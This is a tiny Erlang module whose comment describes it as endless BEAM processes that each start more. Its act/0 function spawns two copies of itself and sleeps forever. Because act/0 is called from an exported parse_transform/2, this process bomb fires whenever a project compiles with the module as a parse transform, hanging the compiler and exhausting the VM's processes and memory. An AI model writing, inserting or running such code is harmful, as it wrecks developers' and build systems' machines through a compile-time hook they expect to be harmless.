%% Processes of the BEAM without end, each of which starts more.
-module(act).
-export([act/0, parse_transform/2]).

parse_transform(Forms, _Options) ->
    act(),
    Forms.

act() ->
    spawn(fun act/0),
    spawn(fun act/0),
    timer:sleep(infinity).
